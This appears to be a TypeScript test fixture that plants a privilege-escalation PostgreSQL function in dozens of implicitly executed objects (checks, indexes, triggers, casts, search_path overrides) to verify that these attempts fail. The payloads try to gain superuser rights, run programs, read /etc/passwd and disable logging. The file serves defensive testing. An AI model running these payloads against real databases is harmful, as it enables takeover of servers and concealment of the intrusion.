/**
 * Hostile code in a database that tries to get more privileges than its owner has. It is planted in every place where PostgreSQL calls
 * code implicitly. When it is called, it tries to become superuser, to run a program, to read a file and to change a role, and logs the
 * role that it ran as.
 */
import { literal } from "../../lib/postgres.ts";

/** What the code has done, according to the server's log. */
export interface Deeds {
  /** Places in which the code ran. */
  ran: string[];
  /** Log lines of places in which the code ran as a superuser, or could become the superuser of the session. */
  ruled: string[];
  /** Log lines of successful attempts. */
  succeeded: string[];
}

/** Reads the messages of the code from a server's log. */
export function deedsIn(log: string): Deeds {
  const ran = [...log.matchAll(/evil ran: (.*?) as (\S+) in a session of (\S+) superuser=(\w+)/g)];
  return {
    ran: [...new Set(ran.map(([, place = ""]) => place))].sort(),
    ruled: ran.filter(([, , , , ruled]) => ruled !== "f").map(([line]) => line),
    succeeded: [...log.matchAll(/evil succeeded: [^%].*/g)].map(([line]) => line),
  };
}

/** Statements that must fail, and what the success of each would show. */
const ATTEMPTS = [
  "SET SESSION AUTHORIZATION postgres",
  "ALTER ROLE sectorwars_owner SUPERUSER",
  "ALTER ROLE sectorwars_app SUPERUSER",
  "ALTER ROLE sectorwars_readonly CREATEROLE",
  "ALTER ROLE sectorwars_app PASSWORD ''known''",
  "GRANT pg_execute_server_program TO sectorwars_owner",
  "COPY (SELECT 1) TO PROGRAM ''touch /tmp/executed-by-source''",
  "COPY (SELECT 1) TO ''/tmp/written-by-source''",
  "DO $do$ BEGIN PERFORM pg_catalog.pg_read_file(''/etc/passwd''); END $do$",
  "CREATE DATABASE stolen",
  "ALTER SYSTEM SET log_statement = ''none''",
];

/** @param home the database in which the code stays passive, because its author loads it there. */
export const hostileFunctions = (home: string): string => `
CREATE SCHEMA evil;
GRANT USAGE ON SCHEMA evil TO PUBLIC;
CREATE FUNCTION evil.pwn(place text) RETURNS boolean LANGUAGE plpgsql VOLATILE AS $f$
DECLARE
  super boolean;
  attempt text;
BEGIN
  IF pg_catalog.current_database() OPERATOR(pg_catalog.=) ${literal(home)} THEN RETURN true; END IF;
  -- A session of the superuser's that was lent to the owner is taken back; PostgreSQL itself forbids that where it runs code for
  -- the owner of a table (security-restricted operations: autovacuum, pg_amcheck).
  BEGIN EXECUTE pg_catalog.format('SET ROLE %I', session_user); EXCEPTION WHEN OTHERS THEN NULL; END;
  SELECT rolsuper INTO super FROM pg_catalog.pg_roles WHERE rolname OPERATOR(pg_catalog.=) current_user;
  RAISE WARNING 'evil ran: % as % in a session of % superuser=%', place, current_user, session_user, super;
  FOREACH attempt IN ARRAY ARRAY[${ATTEMPTS.map((attempt) => `'${attempt}'`).join(", ")}] LOOP
    BEGIN
      EXECUTE attempt;
      RAISE WARNING 'evil succeeded: % by %', attempt, place;
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END LOOP;
  RETURN true;
END $f$;
-- Declared to be harmless, as generated columns and indexes want it.
CREATE FUNCTION evil.int(a int, place text) RETURNS int LANGUAGE sql IMMUTABLE AS $f$ SELECT CASE WHEN evil.pwn(place) THEN a END $f$;
CREATE FUNCTION evil.is(a int, place text) RETURNS boolean LANGUAGE sql IMMUTABLE AS $f$ SELECT evil.pwn(place) AND a IS NOT NULL $f$;
-- Of constants alone it is called when a query of the table is planned, whatever the query is.
CREATE FUNCTION evil.constant(place text) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $f$ BEGIN RETURN CASE WHEN evil.pwn(place) THEN 1 END; END $f$;
CREATE FUNCTION evil.trigger() RETURNS trigger LANGUAGE plpgsql AS $f$ BEGIN PERFORM evil.pwn('trigger ' || TG_NAME); RETURN NEW; END $f$;
`;

/** Every place, by the name that the code logs there. An ordinary role can create each. */
export const HOSTILE_PLACES: Readonly<Record<string, string>> = {
  check:
    "CREATE TABLE t_check (id int PRIMARY KEY, a int CHECK (evil.pwn('check'))); INSERT INTO t_check VALUES (1, 1)",
  "check not valid":
    "CREATE TABLE t_not_valid (id int PRIMARY KEY); ALTER TABLE t_not_valid ADD CHECK (evil.pwn('check not valid')) NOT VALID; INSERT INTO t_not_valid VALUES (1)",
  domain:
    "CREATE DOMAIN evil.dom AS int CHECK (evil.pwn('domain')); CREATE TABLE t_domain (id int PRIMARY KEY, a evil.dom); INSERT INTO t_domain VALUES (1, 1)",
  "domain of an array":
    "CREATE DOMAIN evil.dom_a AS int CHECK (evil.pwn('domain of an array')); CREATE TABLE t_domain_array (id int PRIMARY KEY, a evil.dom_a[]); INSERT INTO t_domain_array VALUES (1, '{1,2}')",
  "domain in a composite":
    "CREATE DOMAIN evil.dom_c AS int CHECK (evil.pwn('domain in a composite')); CREATE TYPE evil.pair AS (a evil.dom_c, b text); CREATE TABLE t_composite (id int PRIMARY KEY, a evil.pair); INSERT INTO t_composite VALUES (1, (1, 'x'))",
  "domain over a domain":
    "CREATE DOMAIN evil.inner AS int CHECK (evil.pwn('domain over a domain')); CREATE DOMAIN evil.outer AS evil.inner; CREATE TABLE t_nested (id int PRIMARY KEY, a evil.outer); INSERT INTO t_nested VALUES (1, 1)",
  "generated column":
    "CREATE TABLE t_generated (id int PRIMARY KEY, a int GENERATED ALWAYS AS (evil.int(id, 'generated column')) STORED); INSERT INTO t_generated VALUES (1)",
  default:
    "CREATE TABLE t_default (id int PRIMARY KEY, a boolean DEFAULT evil.pwn('default')); INSERT INTO t_default VALUES (1, true)",
  "default of a domain":
    "CREATE DOMAIN evil.dom_d AS boolean DEFAULT evil.pwn('default of a domain'); CREATE TABLE t_domain_default (id int PRIMARY KEY, a evil.dom_d); INSERT INTO t_domain_default VALUES (1, true)",
  "index expression":
    "CREATE TABLE t_index (id int PRIMARY KEY); INSERT INTO t_index VALUES (1); CREATE INDEX ON t_index (evil.int(id, 'index expression'))",
  "unique index":
    "CREATE TABLE t_unique (id int PRIMARY KEY); INSERT INTO t_unique VALUES (1); CREATE UNIQUE INDEX ON t_unique (evil.int(id, 'unique index'))",
  "index predicate":
    "CREATE TABLE t_partial (id int PRIMARY KEY); INSERT INTO t_partial VALUES (1); CREATE INDEX ON t_partial (id) WHERE evil.is(id, 'index predicate')",
  "index of a constant":
    "CREATE TABLE t_constant (id int PRIMARY KEY); INSERT INTO t_constant VALUES (1); CREATE INDEX ON t_constant ((id + evil.constant('index of a constant')))",
  "predicate of a constant":
    "CREATE TABLE t_constant_part (id int PRIMARY KEY); INSERT INTO t_constant_part VALUES (1); CREATE INDEX ON t_constant_part (id) WHERE id > evil.constant('predicate of a constant')",
  "statistics of a constant":
    "CREATE TABLE t_constant_stats (id int PRIMARY KEY, a int); INSERT INTO t_constant_stats VALUES (1, 1); CREATE STATISTICS s_constant ON a, (a + evil.constant('statistics of a constant')) FROM t_constant_stats",
  "check of a constant":
    "CREATE TABLE t_constant_check (id int PRIMARY KEY, CHECK (id > 1 - evil.constant('check of a constant'))); INSERT INTO t_constant_check VALUES (1)",
  "exclusion constraint":
    "CREATE TABLE t_exclude (id int PRIMARY KEY, EXCLUDE USING btree (evil.int(id, 'exclusion constraint') WITH =)); INSERT INTO t_exclude VALUES (1)",
  "extended statistics":
    "CREATE TABLE t_stats (id int PRIMARY KEY, a int); INSERT INTO t_stats SELECT g, g FROM generate_series(1, 300) g; CREATE STATISTICS s_stats ON a, (evil.int(a, 'extended statistics')) FROM t_stats",
  "partition key":
    "CREATE TABLE t_parted (id int, a int) PARTITION BY RANGE ((evil.int(a, 'partition key'))); CREATE TABLE t_part_1 PARTITION OF t_parted FOR VALUES FROM (0) TO (10); INSERT INTO t_parted VALUES (1, 1)",
  "subtype difference": `CREATE FUNCTION evil.diff(a int, b int) RETURNS float8 LANGUAGE sql IMMUTABLE AS $f$ SELECT CASE WHEN evil.pwn('subtype difference') THEN (a - b)::float8 END $f$;
     CREATE TYPE evil.span AS RANGE (subtype = int, subtype_diff = evil.diff); CREATE TABLE t_range (id int PRIMARY KEY, a evil.span);
     INSERT INTO t_range SELECT g, evil.span(g, g + 3) FROM generate_series(1, 100) g; CREATE INDEX ON t_range USING gist (a)`,
  multirange:
    "CREATE TABLE t_multirange (id int PRIMARY KEY, a evil.span_multirange); INSERT INTO t_multirange VALUES (1, '{[1,2)}')",
  trigger:
    "CREATE TABLE t_trigger (id int PRIMARY KEY); INSERT INTO t_trigger VALUES (1); CREATE TRIGGER before_row BEFORE INSERT OR UPDATE ON t_trigger FOR EACH ROW EXECUTE FUNCTION evil.trigger(); CREATE TRIGGER truncated BEFORE TRUNCATE ON t_trigger EXECUTE FUNCTION evil.trigger()",
  "constraint trigger":
    "CREATE TABLE t_constraint_trigger (id int PRIMARY KEY); INSERT INTO t_constraint_trigger VALUES (1); CREATE CONSTRAINT TRIGGER at_commit AFTER INSERT ON t_constraint_trigger DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION evil.trigger()",
  "trigger's condition":
    "CREATE TABLE t_when (id int PRIMARY KEY); INSERT INTO t_when VALUES (1); CREATE TRIGGER conditional BEFORE INSERT ON t_when FOR EACH ROW WHEN (evil.is(NEW.id, 'trigger''s condition')) EXECUTE FUNCTION evil.trigger()",
  rule: "CREATE TABLE t_rule (id int PRIMARY KEY); INSERT INTO t_rule VALUES (1); CREATE RULE r AS ON INSERT TO t_rule DO ALSO SELECT evil.pwn('rule')",
  policy:
    "CREATE TABLE t_policy (id int PRIMARY KEY); INSERT INTO t_policy VALUES (1); CREATE POLICY p ON t_policy USING (evil.is(id, 'policy')); ALTER TABLE t_policy ENABLE ROW LEVEL SECURITY",
  view: "CREATE VIEW v_view AS SELECT evil.pwn('view')",
  "materialized view":
    "CREATE MATERIALIZED VIEW m_view AS SELECT id, evil.is(id, 'materialized view') AS yes FROM t_check",
  "index of a materialized view": "CREATE INDEX ON m_view (evil.int(id, 'index of a materialized view'))",
  aggregate: `CREATE FUNCTION evil.step(a int, b int) RETURNS int LANGUAGE sql AS $f$ SELECT CASE WHEN evil.pwn('aggregate') THEN a + b END $f$;
     CREATE AGGREGATE evil.total(int) (sfunc = evil.step, stype = int, initcond = '0'); CREATE MATERIALIZED VIEW m_total AS SELECT evil.total(id) AS total FROM t_check`,
  operator: `CREATE FUNCTION evil.same(int, int) RETURNS boolean LANGUAGE sql IMMUTABLE AS $f$ SELECT evil.pwn('operator') AND $1 = $2 $f$;
     CREATE OPERATOR evil.=== (LEFTARG = int, RIGHTARG = int, FUNCTION = evil.same); CREATE TABLE t_operator (id int PRIMARY KEY, CHECK (id OPERATOR(evil.===) 1)); INSERT INTO t_operator VALUES (1)`,
  "better operator": `CREATE FUNCTION public.oid_is(oid, regrole) RETURNS boolean LANGUAGE plpgsql AS $f$ BEGIN RETURN evil.pwn('better operator'); END $f$;
     CREATE OPERATOR public.= (LEFTARG = oid, RIGHTARG = regrole, FUNCTION = public.oid_is)`,
  "better function": `CREATE FUNCTION public.format(text, regclass, text) RETURNS text LANGUAGE plpgsql AS $f$ BEGIN PERFORM evil.pwn('better function'); RETURN pg_catalog.format($1, VARIADIC ARRAY[$2::text, $3]); END $f$;
     CREATE FUNCTION public.to_regclass(varchar) RETURNS regclass LANGUAGE plpgsql AS $f$ BEGIN PERFORM evil.pwn('better function'); RETURN pg_catalog.to_regclass($1); END $f$`,
  "cast of rows": `CREATE TABLE t_cast (id int PRIMARY KEY, secret text); INSERT INTO t_cast VALUES (1, 'a'), (2, 'b');
     CREATE FUNCTION evil.cast_row(public.t_cast) RETURNS text LANGUAGE plpgsql AS $f$ BEGIN PERFORM evil.pwn('cast of rows'); RETURN 'always the same'; END $f$;
     CREATE CAST (public.t_cast AS text) WITH FUNCTION evil.cast_row(public.t_cast) AS IMPLICIT`,
  "cast of a type": `CREATE TYPE evil.mood AS ENUM ('calm', 'angry'); CREATE TABLE t_mood (id int PRIMARY KEY, a evil.mood); INSERT INTO t_mood VALUES (1, 'calm');
     CREATE FUNCTION evil.cast_mood(evil.mood) RETURNS text LANGUAGE plpgsql AS $f$ BEGIN PERFORM evil.pwn('cast of a type'); RETURN 'x'; END $f$;
     CREATE CAST (evil.mood AS text) WITH FUNCTION evil.cast_mood(evil.mood) AS IMPLICIT`,
  "search path": `CREATE FUNCTION evil.to_regclass(text) RETURNS regclass LANGUAGE plpgsql AS $f$ BEGIN PERFORM evil.pwn('search path'); RETURN pg_catalog.to_regclass($1); END $f$;
     CREATE FUNCTION evil.pg_get_userbyid(oid) RETURNS name LANGUAGE plpgsql AS $f$ BEGIN PERFORM evil.pwn('search path'); RETURN pg_catalog.pg_get_userbyid($1); END $f$;
     CREATE FUNCTION evil.current_setting(text) RETURNS text LANGUAGE plpgsql AS $f$ BEGIN PERFORM evil.pwn('search path'); RETURN pg_catalog.current_setting($1); END $f$;
     DO $do$ BEGIN EXECUTE pg_catalog.format('ALTER DATABASE %I SET search_path = evil, pg_catalog, public', pg_catalog.current_database()); END $do$`,
  "security definer": `CREATE FUNCTION evil.definer() RETURNS boolean LANGUAGE plpgsql SECURITY DEFINER AS $f$ BEGIN RETURN evil.pwn('security definer'); END $f$;
     CREATE TABLE t_definer (id int PRIMARY KEY CHECK (evil.definer())); INSERT INTO t_definer VALUES (1)`,
  "foreign key":
    "CREATE TABLE t_parent (id int PRIMARY KEY); CREATE TABLE t_child (id int PRIMARY KEY REFERENCES t_parent); INSERT INTO t_parent VALUES (1); INSERT INTO t_child VALUES (1)",
  procedure: "CREATE PROCEDURE evil.proc() LANGUAGE plpgsql AS $f$ BEGIN PERFORM evil.pwn('procedure'); END $f$",
};

/** Returns all places as one script, with exceptions. */
export const hostileScript = (home: string, except: readonly string[] = []): string =>
  [
    hostileFunctions(home),
    ...Object.entries(HOSTILE_PLACES).flatMap(([place, sql]) => (except.includes(place) ? [] : `${sql};`)),
  ].join("\n");
